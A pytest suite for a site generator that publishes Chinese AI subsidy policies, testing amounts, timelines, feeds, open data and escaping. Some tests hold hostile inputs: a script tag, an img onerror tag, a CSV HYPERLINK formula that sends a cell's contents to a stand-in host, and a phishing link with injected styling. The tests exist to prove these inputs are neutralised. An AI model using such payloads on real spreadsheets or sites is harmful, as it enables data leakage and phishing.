"""The site generator's parts, each against values worked out from the policy texts.

(Terms, escaping, the view's statuses and links, reference amounts, timeline, open data, feed,
search words, and the render command's errors.)
"""

from __future__ import annotations

import copy
import csv
import datetime as dt
import io
import json
import xml.etree.ElementTree as ET
from decimal import Decimal
from types import SimpleNamespace

import jieba
import pytest
from conftest import ROOT
from markupsafe import escape

from policy_explorer.cli import main as cli_main
from policy_explorer.sitegen import feed, opendata, timeline
from policy_explorer.sitegen.escape import md, md_lines
from policy_explorer.sitegen.glossary import (
    GlossaryError,
    by_letter,
    jieba_user_dict,
    load_glossary,
    search_words,
)
from policy_explorer.sitegen.reference import reference_amounts
from policy_explorer.sitegen.render import RenderError, load_strings
from policy_explorer.sitegen.terms import benefit_terms
from policy_explorer.sitegen.view import build_view

ON = dt.date(2025, 6, 1)


@pytest.fixture(scope="module")
def view(data):
    return build_view(data, ON)


def _clause(view, policy, clause):
    return next(c for p in view.policies if p.id == policy for c in p.clauses if c.id == clause)


def test_terms_of_the_training_compute_voucher(view):
    # 深圳 (二): 不超过服务合同金额的50%，最高1000万元，初创企业60%: the text does not say what the
    # 1000万 is counted per (company, contract, year), so it is shown as not stated.
    # "按不超过服务合同金额的50%……对初创企业提高资助比例至60%": the 60% only for a start-up, named with it,
    # never "50% / 60%" as if either applied to anyone.
    terms = _clause(view, "shenzhen-ai-pioneer-measures-2024", "2").terms
    assert terms.rate_label("zh") == "60%（初创企业：是）；否则50%"
    assert terms.rate_label("en") == "60% (Start-up: yes); otherwise 50%"
    assert terms.bases == ["compute_spend"]
    assert terms.cap_label("zh") == "1,000万元（上限范围未说明）"
    assert terms.cap_label("en") == "CNY 10,000,000 (scope not stated)"
    assert terms.max_amount == Decimal(10_000_000)


def test_terms_of_graded_and_fixed_rewards(data):
    rate = {"rate": {"grades": ["50%", "35%", "20%"]}, "of": {"fact": "compute_spend"}}
    graded = {"kind": "formula", "amount": {"cap": [{"max": "100万", "per": "enterprise_year"}], "of": rate}}
    terms = benefit_terms(graded)
    assert terms.rate_label() == "20% / 35% / 50%" and terms.max_rate == Decimal("0.5")
    fixed = benefit_terms({"kind": "fixed", "amount": "10万"})
    assert fixed.amount_label("zh") == "10万元" and fixed.caps == []


def test_markdown_escaping_keeps_hostile_text_literal():
    assert md("<script>alert(1)</script>") == "&lt;script&gt;alert(1)&lt;/script&gt;"
    assert md("*x* | [y](z) {#id}") == r"\*x\* \| \[y\](z) \{\#id\}"
    assert md_lines("1. one\n- two") == "1\\. one\n\n\\- two"


def test_statuses_tree_and_implementing_links(view):
    status = {p.id: p.status for p in view.policies}
    assert status["shenzhen-ai-pioneer-measures-2024"] == "in_force"  # 2024-12-18 .. 2026-12-17
    assert status["xiamen-ai-2023"] == "in_force"  # .. 2025-12-31
    assert status["shenzhen-nanshan-ai-draft"] == "draft"
    later = {p.id: p.status for p in build_view(view.data, dt.date(2026, 12, 18)).policies}
    assert later["shenzhen-ai-pioneer-measures-2024"] == "expired"
    shenzhen = view.jurisdictions["shenzhen"]
    assert {p.id for p in shenzhen.subtree_policies()} >= {
        "shenzhen-futian-ai-2024",
        "shenzhen-qianhai-ai-2024",
    }
    assert [j.id for j in view.jurisdictions["shenzhen-qianhai"].path(view.jurisdictions)][-2:] == [
        "shenzhen",
        "shenzhen-qianhai",
    ]
    rules = [c for p in view.policies if p.id == "shenzhen-ai-pioneer-rules-2025" for c in p.clauses]
    assert all(c.implements for c in rules)
    assert any(c.implemented_by for c in view.by_category["model_voucher"])


def test_expiring_soon_lists_policies_ending_within_180_days(data):
    soon = build_view(data, dt.date(2026, 7, 1)).expiring()
    assert [p.id for p in soon] == ["shenzhen-ai-pioneer-measures-2024"]  # ends 2026-12-17: 169 days
    assert soon[0].days_left == 169


def test_reference_amounts_are_the_calculators(view):
    refs = reference_amounts(view.by_category["compute_voucher"], view)
    amounts = {key: ref.amounts for key, ref in refs.items()}
    # 50% of 100万 = 50万; 50% of 1000万 = 500万 (under the 1000万 cap).
    assert amounts["shenzhen-ai-pioneer-measures-2024/2"] == [(500_000, 500_000), (5_000_000, 5_000_000)]
    # Xiamen: 50%, at most 50万 a year; 100万 → 50万, 1000万 → 50万.
    assert amounts["xiamen-ai-2023/3"] == [(500_000, 500_000), (500_000, 500_000)]
    # Xihu: graded 50% / 35% / 20% → 20万–50万 at 100万; 1000万 → capped at 100万 either way.
    assert amounts["hangzhou-xihu-ai-2025/2"] == [(200_000, 500_000), (1_000_000, 1_000_000)]


def test_reference_rate_is_the_one_that_applies_at_the_spend(view):
    """Shenzhen (2): "按不超过服务合同金额的50%,给予最高1000万元资助,对初创企业提高资助比例至60%": the
    tables' company is not a start-up, so 50% applies, not "50% / 60%". Xihu (2): "分别给予智算服务金额
    50%、35%、20%的补助,单个主体年度补贴金额不超过100万元": 20%–50% of 100万; 1000万 hits the cap, 10%."""
    refs = reference_amounts(view.by_category["compute_voucher"], view)
    assert refs["shenzhen-ai-pioneer-measures-2024/2"].shares() == [(Decimal("0.5"), Decimal("0.5"))] * 2
    xihu = refs["hangzhou-xihu-ai-2025/2"]
    assert xihu.shares() == [(Decimal("0.2"), Decimal("0.5")), (Decimal("0.1"), Decimal("0.1"))]
    assert xihu.capped == [False, True]


def test_a_clause_reading_two_amounts_keeps_its_reference_columns(view):
    """Binjiang (6): "按不超过…结算费用的30%（非国产人工智能算力）或60%（国产人工智能算力）": the table's base
    (compute spending) takes the reference amount, domestic compute is taken as 0, so 30% applies:
    100万 → 30万, 1000万 → 300万 (under the 2000万 cap)."""
    ref = reference_amounts(view.by_category["compute_voucher"], view)["hangzhou-binjiang-ai-draft/6"]
    assert (ref.base, ref.zeros) == ("compute_spend", ("compute_spend_domestic",))
    assert ref.amounts == [(300_000, 300_000), (3_000_000, 3_000_000)]


def test_timeline_draws_one_bar_per_dated_policy(view):
    svg = timeline.svg(view, "en", load_strings())
    dated = [p for p in view.policies if p.start and p.status != "draft"]
    drafts = [p for p in view.policies if p.status == "draft"]
    assert svg.count('class="pe-tl-bar ') == len(dated) + len(drafts) and len(dated) >= 7
    ET.fromstring(str(svg))  # well-formed
    assert "Shenzhen · Shenzhen AI pioneer-city measures: 2024-12-18 – 2026-12-17" in svg


def test_timeline_draws_no_invented_dates(tmp_path):
    # Fixture: the zone "自2026年3月1日起施行，长期有效" runs to the drawing's edge, labelled as such; the
    # data-labelling measures "自公布之日起30日后施行" (date unknown) get no bar.
    from fixture_policies import policies_with_fixture

    from policy_explorer.compile import compile_policies

    data = compile_policies(policies_with_fixture(tmp_path / "policies"))
    fixture_view = build_view(data, dt.date(2026, 6, 1))
    svg = str(timeline.svg(fixture_view, "en", load_strings()))
    assert "Demonstration Zone AI measures: 2026-03-01 – until further notice" in svg
    assert "data-labelling" not in svg


def _bars(svg: str) -> dict[str, str]:
    """Each bar's kind by the policy its tooltip names (title before ':')."""
    root = ET.fromstring(svg)
    ns = "{http://www.w3.org/2000/svg}"
    return {
        r.find(f"{ns}title").text.split(": ")[0]: r.get("data-kind")
        for r in root.iter(f"{ns}rect")
        if r.find(f"{ns}title") is not None
    }


def test_timeline_draws_expiring_expired_and_draft_bars_apart_with_a_legend(data):
    """On 2026-12-07: 深圳 "本措施自2024年12月18日起施行,有效期2年" ends 2026-12-17 (10 days,
    within the home page's 180-day "即将到期"): hatched; 西湖 "有效期至2028年4月12日": solid;
    厦门 "有效期至2025年12月31日": expired (thin); 南山's 征求意见稿 has no dates: a dashed box
    with the word. The legend names each."""
    strings = load_strings()
    on = dt.date(2026, 12, 7)
    on_view = build_view(data, on)
    for lang in ("zh", "en"):
        svg = str(timeline.svg(on_view, lang, strings))
        bars = _bars(svg)
        name = {p.id: f"{p.jurisdiction['name'][lang]} · {p.short_title[lang]}" for p in on_view.policies}
        assert bars[name["shenzhen-ai-pioneer-measures-2024"]] == "expiring"
        assert bars[name["hangzhou-xihu-ai-2025"]] == "in_force"
        assert bars[name["xiamen-ai-2023"]] == "expired"
        assert bars[name["shenzhen-nanshan-ai-draft"]] == "draft"
        assert f'class="pe-tl-draft">{strings["status_draft"][lang]}</text>' in svg
        legend = str(timeline.legend(on_view, lang, strings))
        ET.fromstring(legend)
        kinds = set(bars.values())
        assert {
            k
            for k in ("in_force", "expiring", "expired", "not_yet_in_force", "draft")
            if f'data-kind="{k}"><svg' in legend
        } == kinds
        assert str(escape(strings["tl_expiring"][lang].format(days=180))) in legend
        assert on.isoformat() in legend
    # A day later than the 180 days before its end, the same bar is solid again.
    early = build_view(data, dt.date(2026, 6, 19))  # 181 days before 2026-12-17
    bars = _bars(str(timeline.svg(early, "en", strings)))
    assert bars["Shenzhen · Shenzhen AI pioneer-city measures"] == "in_force"


def test_open_data_records(view, data):
    clauses = sum(len(p["clauses"]) for p in data["policies"])
    records = opendata.records(view, "en")
    assert len(records) == clauses
    row = next(
        r for r in records if r["policy"] == "shenzhen-ai-pioneer-measures-2024" and r["clause"] == "2"
    )
    # "按不超过服务合同金额的50%，给予最高1000万元资助，对初创企业提高资助比例至60%": the rate with its
    # condition, as the pages give it; the 1000万 caps a computed amount, so it is the cap.
    assert (row["rate"], row["cap_cny"], row["status"]) == (
        "60% (Start-up: yes); otherwise 50%",
        10_000_000,
        "in_force",
    )
    assert (row["amount"], row["amount_cny"]) == ("", None)
    # 西湖区 8: "最高予以50万元一次性奖励" is an "up to" amount, not a cap on anything computed.
    upto = next(r for r in records if (r["policy"], r["clause"]) == ("hangzhou-xihu-ai-2025", "8"))
    assert (upto["cap"], upto["cap_cny"]) == ("", None)
    assert (upto["amount"], upto["amount_cny"]) == ("up to CNY 500,000", 500_000)
    assert row["page"] == "policies/shenzhen-ai-pioneer-measures-2024/clause-2/"
    doc = json.loads(opendata.clauses_json(view, "zh"))
    assert doc["count"] == clauses and doc["clauses"][0]["benefit"]["kind"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_open_data_csv_cells_never_start_a_formula(data, start):
    hostile = copy.deepcopy(data)
    clause = hostile["policies"][0]["clauses"][0]
    formula = f'{start}HYPERLINK("http://x.example/?"&A1,"click")'
    clause["title"] = {"zh": formula, "en": formula}
    view = build_view(hostile, ON)
    rows = list(
        csv.DictReader(io.StringIO(opendata.clauses_csv(view, "en", load_strings()).lstrip("\ufeff")))
    )
    key = {"policy": hostile["policies"][0]["id"], "clause": clause["id"]}
    assert [r["title"] for r in rows if key.items() <= r.items()] == ["'" + formula]
    assert all(not v.startswith(opendata.FORMULA_START) for r in rows for v in r.values())
    records = json.loads(opendata.clauses_json(view, "en"))["clauses"]
    assert [r["title"] for r in records if key.items() <= r.items()] == [formula]


# A spreadsheet whose list separator is `;` (most of Europe) splits `x;=1+2` into `x` and a formula;
# Excel with a Japanese or Chinese input method reads a full-width ＝ as =.
@pytest.mark.parametrize("title", ["x;=1+2", "x; -2+3", "＝1+2", "＋1", "－1", "＠SUM(A1)", "a,b;\t=1"])
def test_open_data_csv_cells_hide_no_formula_behind_a_separator(data, title):
    hostile = copy.deepcopy(data)
    hostile["policies"][0]["clauses"][0]["title"] = {"zh": title, "en": title}
    text = opendata.clauses_csv(build_view(hostile, ON), "en", load_strings()).lstrip("\ufeff")
    starts = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
    for delimiter in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text), delimiter=delimiter):
            assert not [c for c in row if c.lstrip(' "').startswith(starts)], (delimiter, row)


def test_the_feed_stays_xml_whatever_a_commit_message_holds(view):
    change = SimpleNamespace(
        policy="p",
        jurisdiction="shenzhen",
        kind="changed",
        title={"zh": "标题\x07", "en": "t"},
        details=[],
        clauses=[],
    )
    revision = SimpleNamespace(
        commit="c" * 40, date="2025-01-01T00:00:00+08:00", subject="s", changes=[change]
    )
    root = ET.fromstring(feed.atom(view, "zh", load_strings(), [revision]))
    assert root.find("{http://www.w3.org/2005/Atom}entry/{http://www.w3.org/2005/Atom}title").text.startswith(
        "标题\ufffd"
    )


def test_feed_without_history_lists_each_policy_dated_by_its_first_day(view, data):
    xml = feed.atom(view, "zh", load_strings(), [])
    root = ET.fromstring(xml)
    ns = {"a": "http://www.w3.org/2005/Atom"}
    entries = root.findall("a:entry", ns)
    # One entry per document that states a first day (drafts do not); the feed dates from the latest.
    starts = sorted(p["validity"]["from"] for p in data["policies"] if p["validity"].get("from"))
    assert len(entries) == len(starts)
    assert root.find("a:updated", ns).text == f"{starts[-1]}T00:00:00+08:00"
    hostile = feed.atom(view, "en", load_strings(), [])
    assert "<script" not in hostile


def test_a_jurisdictions_feed_holds_what_applies_there(view):
    """A district's feed: its own policies and every level above, never a sibling's."""
    ns = {"a": "http://www.w3.org/2005/Atom"}
    for node in view.listed_jurisdictions():
        applies = {j.id for j in node.path(view.jurisdictions)}
        xml = feed.atom(view, "en", load_strings(), [], only=(node.id, node.name, applies))
        root = ET.fromstring(xml)
        links = {e.find("a:link", ns).get("href") for e in root.findall("a:entry", ns)}
        expected = {f"policies/{p.id}/" for p in view.policies if p.start and p.jurisdiction["id"] in applies}
        assert links == expected, node.id
        assert root.find("a:link[@rel='self']", ns).get("href") == f"feed-{node.id}.xml"
        assert root.find("a:title", ns).text.endswith(node.name["en"])


def test_glossary_letters_follow_pinyin_in_chinese_and_the_english_term_in_english():
    terms = [
        {"zh": "算力券", "en": "compute voucher"},
        {"zh": "揭榜挂帅", "en": "open competition for key projects"},
        {"zh": "模型券", "en": "model voucher"},
        {"zh": "重点项目", "en": "key project"},  # 重 read zhong here, not chong
    ]
    zh = [(letter, [e["zh"] for e in entries]) for letter, entries in by_letter(terms, "zh")]
    assert zh == [("J", ["揭榜挂帅"]), ("M", ["模型券"]), ("S", ["算力券"]), ("Z", ["重点项目"])]
    en = [(letter, [e["en"] for e in entries]) for letter, entries in by_letter(terms, "en")]
    assert en == [
        ("C", ["compute voucher"]),
        ("K", ["key project"]),
        ("M", ["model voucher"]),
        ("O", ["open competition for key projects"]),
    ]


def test_search_dictionary_keeps_policy_terms_whole(data):
    glossary = load_glossary(ROOT / "policies" / "glossary.yaml")
    words = search_words(glossary, data)
    for term in ("算力券", "语料券", "模型券", "训力券", "揭榜挂帅", "具身智能"):
        assert term in words
    assert "算力券 2000 n\n" in jieba_user_dict(words)
    tokenizer = jieba.Tokenizer()
    for word in words:
        tokenizer.add_word(word, 2000)
    assert "算力券" in list(tokenizer.cut("对企业发放算力券和训力券"))


@pytest.mark.parametrize(
    ("text", "line", "found"),
    [
        ("- zh: 算力券\n  en: no\n  note: {zh: 凭证, en: voucher}\n", 2, "`no` at [0].en is a boolean"),
        ("- zh: 算力券\n  en: compute voucher\n  note: {zh: 凭证}\n", 3, "[0].note: missing `en`"),
        ("- zh: 算力券\n  en: [compute voucher\n", 3, "not valid YAML"),
        (
            "- {zh: 算力券, en: compute voucher, note: {zh: 凭证, en: voucher}}\n"
            "- {zh: 算力券, en: compute coupon, note: {zh: 凭证, en: coupon}}\n",
            2,
            "`算力券` is already in the glossary",
        ),
    ],
)
def test_a_broken_glossary_is_named_with_its_line(tmp_path, text, line, found):
    (tmp_path / "glossary.yaml").write_text(text, encoding="utf-8")
    with pytest.raises(GlossaryError) as raised:
        load_glossary(tmp_path / "glossary.yaml")
    assert f"glossary.yaml:{line}: " in str(raised.value) and found in str(raised.value)


def test_no_glossary_file_means_no_terms(tmp_path):
    assert load_glossary(tmp_path / "glossary.yaml") == []


def test_render_command_reports_a_bad_date_in_one_line(tmp_path, capsys):
    assert cli_main(["render", "--out", str(tmp_path), "--date", "2025-02-30"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "build date `2025-02-30` is not a date" in err
    assert not any(tmp_path.iterdir())


def test_render_command_writes_both_editions(tmp_path, capsys):
    assert cli_main(["render", "--out", str(tmp_path), "--date", "2025-06-01", "--no-history"]) == 0
    for lang in ("zh", "en"):
        assert (tmp_path / lang / "policies" / "xiamen-ai-2023.md").is_file()
        assert (tmp_path / lang / "compare" / "compute_voucher.md").is_file()
    zh = (tmp_path / "zh" / "policies" / "shenzhen-ai-pioneer-measures-2024.md").read_text(encoding="utf-8")
    assert "{: #clause-2 }" in zh and "按服务合同金额50%（初创企业60%）资助，最高1000万元" in zh


@pytest.mark.parametrize("kind", ["foreign file", "file", "link"])
def test_render_command_deletes_nothing_it_did_not_write(tmp_path, capsys, kind):
    out = tmp_path / "out"
    if kind == "foreign file":
        (out / "zh").mkdir(parents=True)
        (out / "zh" / "mine.txt").write_text("mine")
    elif kind == "file":
        out.write_text("a file")
    else:
        (tmp_path / "real").mkdir()
        out.symlink_to(tmp_path / "real")
    assert cli_main(["render", "--out", str(out), "--lang", "zh", "--no-history", "--no-runtime"]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: ") and err.count("\n") == 1 and "Traceback" not in err
    assert str(out) in err
    if kind == "foreign file":
        assert (out / "zh" / "mine.txt").read_text() == "mine"


def test_render_command_replaces_its_own_output(tmp_path, capsys):
    args = ["render", "--out", str(tmp_path), "--lang", "en", "--no-history", "--no-runtime"]
    assert cli_main([*args, "--with-content"]) == 0
    assert (tmp_path / "en" / "about.md").is_file()
    assert cli_main(args) == 0
    assert not (tmp_path / "en" / "about.md").exists()  # written by the first run: replaced


def test_every_site_string_has_its_whole_text_in_both_languages():
    strings = load_strings()
    assert all(set(pair) == {"zh", "en"} for pair in strings.values())
    # The calculator's unit choice: 万元 is ten thousand yuan (English: the unit, 万元 as its gloss).
    assert strings["calc_unit_wan"] == {"zh": "万元", "en": "CNY 10,000 (万元)"}


@pytest.mark.parametrize(
    ("entry", "found"),
    [
        ("unit: {zh: 万元, en: 万元 (CNY 10,000)}", "'000)': None"),  # the comma split the text
        ("unit: {zh: 万元}", "{'zh': '万元'}"),
        ("unit: {zh: 万元, en: ''}", "'en': ''"),
        ("unit: 万元", "'万元'"),
    ],
)
def test_a_site_string_without_text_in_both_languages_is_named_with_its_line(tmp_path, entry, found):
    (tmp_path / "strings.yaml").write_text(f"home: {{zh: 首页, en: Home}}\n{entry}\n", encoding="utf-8")
    with pytest.raises(RenderError) as raised:
        load_strings(tmp_path)
    message = str(raised.value)
    assert message.startswith(f"{tmp_path / 'strings.yaml'}:2: `unit` must be {{zh: …, en: …}}")
    assert found in message and "\n" not in message


def test_site_strings_are_read_in_the_strict_yaml_dialect(tmp_path):
    (tmp_path / "strings.yaml").write_text("home: {zh: 首页, en: yes}\n", encoding="utf-8")
    with pytest.raises(RenderError, match=r"strings\.yaml:1: .*yes"):
        load_strings(tmp_path)


def test_quotes_stay_plain_so_the_table_of_contents_shows_them():
    assert md('Issue "training compute vouchers" & more') == 'Issue "training compute vouchers" &amp; more'


def test_a_data_url_is_one_link_whatever_it_holds():
    """Security round 3: `<{{ url }}>` let an address become a second link with a Markdown attribute
    list. Written with the `link` filter, a refused address is text and a valid one is one link."""
    import markdown

    from policy_explorer.sitegen.escape import link

    def html(url: str) -> str:
        page = f'- Guide: {link(url)}\n\n<td markdown="span">{link(url, "official")}</td>'
        return markdown.markdown(page, extensions=["tables", "attr_list", "md_in_html"])

    phishing = "https://evil.example/[Portal](https://phish.example/login){:style=position:fixed}"
    out = html(phishing)
    assert "<a" not in out and 'style="' not in out and "[Portal](https://phish.example/login)" in out
    odd = "https://example.gov.cn/_a_*b*!x&y=1;z=$2#__config"
    out = html(odd)
    assert out.count("<a ") == 2 and "<em>" not in out and "<strong>" not in out
    assert f'href="{odd.replace("&", "&amp;")}"' in out and f">{odd.replace('&', '&amp;')}</a>" in out


@pytest.mark.parametrize("day", ["9999-12-31", "1899-12-31", "0001-01-01"])
def test_a_build_date_past_the_datas_years_is_refused_by_name(monkeypatch, day):
    """The plugin reads $POLICY_EXPLORER_BUILD_DATE: 9999-12-31 drew a timeline to year 10000 (traceback)."""
    from policy_explorer.sitegen import DATE_ENV, RenderError, build_date

    monkeypatch.setenv(DATE_ENV, day)
    with pytest.raises(RenderError, match=rf"build date `{day}` is outside 1900-01-01 to 2199-12-31"):
        build_date(None)


def test_search_tags_are_escaped_for_material_s_results():
    """Material's search results insert a page's tags as markup: a search term holding markup must
    arrive there as text (the hostile build ran `<img onerror>` from a place's search term)."""
    from policy_explorer.sitegen.escape import front_matter_list

    tags = json.loads(str(front_matter_list(['<img src=x onerror="a()">  租金', "新三板"])))
    assert tags == ["&lt;img src=x onerror=&quot;a()&quot;&gt; 租金", "新三板"]
